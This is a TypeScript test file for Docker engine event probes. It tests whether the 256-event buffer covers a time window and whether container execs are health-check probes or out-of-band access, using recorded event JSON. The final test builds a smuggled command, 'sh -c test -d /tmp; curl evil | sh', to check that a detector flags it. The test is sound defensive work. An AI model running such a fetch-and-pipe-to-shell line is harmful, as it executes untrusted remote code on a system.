/**
 * What the engine's events can prove. Coverage of a window: the engine keeps its last 256 events,
 * so it holds all of a window only if the oldest event it still holds is at or before the
 * window's start; how many events fall in the window says nothing (DL-DEP-003 once passed on
 * "fewer than 256 in the window" while the events after the window had pushed its start out).
 * Health checks: a Docker HEALTHCHECK runs as an exec, and the engine logs exec_create and
 * exec_start for every probe, unmarked; they are told apart from out-of-band access by their
 * command being exactly the container's health-check command.
 * Event shapes are the engine's own (Docker 20.10, `docker events --format '{{json .}}'`).
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { toEvent } from '../../probes/docker.ts';
import { bufferReachesBack, healthCheckCommand, splitHealthChecks } from '../../probes/engine-events.ts';

const ID = '848d6a6c870a802ff0a055e9b686469974ccbe0db8b4d6878da31da056b79694';
/** An engine event at `sec` (+ `nano` ns): a container's destroy, the commonest event under churn. */
const at = (sec: number, nano = 0) => ({
  status: 'destroy',
  id: ID,
  from: 'driftless-lab/base:bookworm',
  Type: 'container',
  Action: 'destroy',
  Actor: { ID, Attributes: { image: 'driftless-lab/base:bookworm', name: 'churn' } },
  scope: 'local',
  time: sec,
  timeNano: sec * 1e9 + nano,
});
/** The engine's whole buffer: 256 events, one a second from `oldest` on. */
const buffer = (oldest: number) => Array.from({ length: 256 }, (_, i) => at(oldest + i));

describe('does the engine still hold every event since the window started?', () => {
  test('its oldest event is before the window: covered, whatever the window holds', () => {
    const c = bufferReachesBack(buffer(1_000), 1_100); // 156 events in the window
    assert.equal(c.covers, true);
    assert.equal(c.oldest, '1970-01-01T00:16:40.000Z');
    assert.equal(c.held, 256);
  });

  test('few events in the window, but 250 after it pushed its start out: not covered (the old "fewer than 256" count said it was)', () => {
    const window = { from: 1_000, to: 1_010 };
    const held = buffer(1_005); // events 1005..1260: 6 in the window, 250 after it
    const inWindow = held.filter((e) => e.time >= window.from && e.time <= window.to).length;
    assert.ok(inWindow < 256); // what the old rule counted, and passed on
    const c = bufferReachesBack(held, window.from);
    assert.equal(c.covers, false);
    assert.match(
      c.why!,
      /event buffer \(its last 256 events\) no longer reaches back to 1970-01-01T00:16:40\.000Z: the oldest event it holds is from 1970-01-01T00:16:45\.000Z/,
    );
  });

  test('the oldest event exactly at the window start covers it; a nanosecond later does not', () => {
    assert.equal(bufferReachesBack([at(1_000), at(1_001)], 1_000).covers, true);
    assert.equal(bufferReachesBack([at(1_000, 1), at(1_001)], 1_000).covers, false);
  });

  test('an engine holding no events at all (restarted): not covered, and it says so', () => {
    const c = bufferReachesBack([], 1_000);
    assert.equal(c.covers, false);
    assert.match(c.why!, /holds no events at all \(was it restarted\?\)/);
  });

  test('events the engine gives with seconds only (no timeNano) are still placed', () => {
    assert.equal(bufferReachesBack([{ time: 999 }], 1_000).covers, true);
  });
});

/*
 * Recorded on Docker 20.10.24 (2026-12-05): an image FROM driftless-lab/base:bookworm with
 *   1. HEALTHCHECK --interval=2s CMD ["sh","-c","test -d /tmp"]
 *      inspect: Config.Healthcheck.Test = ["CMD","sh","-c","test -d /tmp"]
 *   2. HEALTHCHECK --interval=2s CMD test -d /tmp || exit 1
 *      inspect: Config.Healthcheck.Test = ["CMD-SHELL","test -d /tmp || exit 1"], Config.Shell null
 *      and, by hand: docker exec <c> /bin/sh -c 'test -d /tmp || exit 1'; docker exec -u 0 <c> /healthcheck
 * run with --network host. Every probe logged exec_create, exec_start and exec_die with only
 * execID (and the container's labels) as attributes; the hand-run exec of the very same command
 * logged events identical to the probe's but for the execID and time.
 */
const CMD_PROBE = [
  '{"status":"exec_create: sh -c test -d /tmp","id":"848d6a6c870a802ff0a055e9b686469974ccbe0db8b4d6878da31da056b79694","from":"dl-helper-hc-test:1","Type":"container","Action":"exec_create: sh -c test -d /tmp","Actor":{"ID":"848d6a6c870a802ff0a055e9b686469974ccbe0db8b4d6878da31da056b79694","Attributes":{"dl.helper":"hc","execID":"eca6d6487fd571bb9b8a7651aad2ce175db21754f4b697c0e62943895ec8d7a7","image":"dl-helper-hc-test:1","name":"dl-helper-hc-test"}},"scope":"local","time":1796489013,"timeNano":1796489013759686797}',
  '{"status":"exec_start: sh -c test -d /tmp","id":"848d6a6c870a802ff0a055e9b686469974ccbe0db8b4d6878da31da056b79694","from":"dl-helper-hc-test:1","Type":"container","Action":"exec_start: sh -c test -d /tmp","Actor":{"ID":"848d6a6c870a802ff0a055e9b686469974ccbe0db8b4d6878da31da056b79694","Attributes":{"dl.helper":"hc","execID":"eca6d6487fd571bb9b8a7651aad2ce175db21754f4b697c0e62943895ec8d7a7","image":"dl-helper-hc-test:1","name":"dl-helper-hc-test"}},"scope":"local","time":1796489013,"timeNano":1796489013759734438}',
];
const SHELL_PROBE = [
  '{"status":"exec_create: /bin/sh -c test -d /tmp || exit 1","id":"2789de264a31b52c380fe79dd4f86199874aec84fea7e4efbe02bbee38f80166","from":"dl-helper-hc-test:2","Type":"container","Action":"exec_create: /bin/sh -c test -d /tmp || exit 1","Actor":{"ID":"2789de264a31b52c380fe79dd4f86199874aec84fea7e4efbe02bbee38f80166","Attributes":{"execID":"a2ec4bc433a9e80f52fb82ca9593cdae20d979bd6a9f5b8c0aaf2c2d58f939f4","image":"dl-helper-hc-test:2","name":"dl-helper-hc-test2"}},"scope":"local","time":1796489045,"timeNano":1796489045273651523}',
  '{"status":"exec_start: /bin/sh -c test -d /tmp || exit 1","id":"2789de264a31b52c380fe79dd4f86199874aec84fea7e4efbe02bbee38f80166","from":"dl-helper-hc-test:2","Type":"container","Action":"exec_start: /bin/sh -c test -d /tmp || exit 1","Actor":{"ID":"2789de264a31b52c380fe79dd4f86199874aec84fea7e4efbe02bbee38f80166","Attributes":{"execID":"a2ec4bc433a9e80f52fb82ca9593cdae20d979bd6a9f5b8c0aaf2c2d58f939f4","image":"dl-helper-hc-test:2","name":"dl-helper-hc-test2"}},"scope":"local","time":1796489045,"timeNano":1796489045274336112}',
];
/** `docker exec -u 0 <c> /healthcheck` by hand, in the CMD-SHELL container: a one-word command ends in a space. */
const BY_HAND = [
  '{"status":"exec_create: /healthcheck ","id":"2789de264a31b52c380fe79dd4f86199874aec84fea7e4efbe02bbee38f80166","from":"dl-helper-hc-test:2","Type":"container","Action":"exec_create: /healthcheck ","Actor":{"ID":"2789de264a31b52c380fe79dd4f86199874aec84fea7e4efbe02bbee38f80166","Attributes":{"execID":"786b17b674d651a6069b4bf0c8ae89259ac1186582dc44488b7be1f3e1e6d028","image":"dl-helper-hc-test:2","name":"dl-helper-hc-test2"}},"scope":"local","time":1796489045,"timeNano":1796489045333280911}',
  '{"status":"exec_start: /healthcheck ","id":"2789de264a31b52c380fe79dd4f86199874aec84fea7e4efbe02bbee38f80166","from":"dl-helper-hc-test:2","Type":"container","Action":"exec_start: /healthcheck ","Actor":{"ID":"2789de264a31b52c380fe79dd4f86199874aec84fea7e4efbe02bbee38f80166","Attributes":{"execID":"786b17b674d651a6069b4bf0c8ae89259ac1186582dc44488b7be1f3e1e6d028","image":"dl-helper-hc-test:2","name":"dl-helper-hc-test2"}},"scope":"local","time":1796489045,"timeNano":1796489045333918208}',
];
const events = (lines: string[]) => lines.map((l) => toEvent(JSON.parse(l) as Record<string, unknown>));

describe("the engine's own health-check execs are not out-of-band access", () => {
  test('the health-check command, as the engine writes it, for CMD and CMD-SHELL (default and custom shell)', () => {
    assert.equal(healthCheckCommand({ Test: ['CMD', 'sh', '-c', 'test -d /tmp'] }), 'sh -c test -d /tmp');
    assert.equal(healthCheckCommand({ Test: ['CMD-SHELL', 'test -d /tmp || exit 1'] }, null), '/bin/sh -c test -d /tmp || exit 1');
    assert.equal(
      healthCheckCommand({ Test: ['CMD-SHELL', 'curl -f localhost'] }, ['/bin/bash', '-o', 'pipefail', '-c']),
      '/bin/bash -o pipefail -c curl -f localhost',
    );
    assert.equal(healthCheckCommand({ Test: ['CMD', '/healthcheck'] }), '/healthcheck ');
    assert.equal(healthCheckCommand({ Test: ['NONE'] }), undefined);
    assert.equal(healthCheckCommand(undefined), undefined);
  });

  test('CMD probes (recorded events) are set aside as health checks; nothing is left as access', () => {
    const split = splitHealthChecks(events(CMD_PROBE), healthCheckCommand({ Test: ['CMD', 'sh', '-c', 'test -d /tmp'] }));
    assert.deepEqual(split.execs, []);
    assert.equal(split.healthChecks.length, 2);
  });

  test('CMD-SHELL probes are set aside; an exec of another command in the same container is still access', () => {
    const split = splitHealthChecks(events([...SHELL_PROBE, ...BY_HAND]), healthCheckCommand({ Test: ['CMD-SHELL', 'test -d /tmp || exit 1'] }, null));
    assert.deepEqual(
      split.execs.map((e) => e.action),
      ['exec_create: /healthcheck ', 'exec_start: /healthcheck '],
    );
    assert.equal(split.healthChecks.length, 2);
  });

  test('a container without a health check: every exec is access, even one that looks like a probe', () => {
    const split = splitHealthChecks(events(CMD_PROBE), healthCheckCommand({ Test: ['NONE'] }));
    assert.equal(split.execs.length, 2);
    assert.deepEqual(split.healthChecks, []);
  });

  test('a command that merely starts like the health check is access', () => {
    const [create] = events(CMD_PROBE);
    const longer = { ...create!, action: 'exec_create: sh -c test -d /tmp; curl evil | sh' };
    assert.deepEqual(splitHealthChecks([longer], 'sh -c test -d /tmp').execs, [longer]);
  });
});
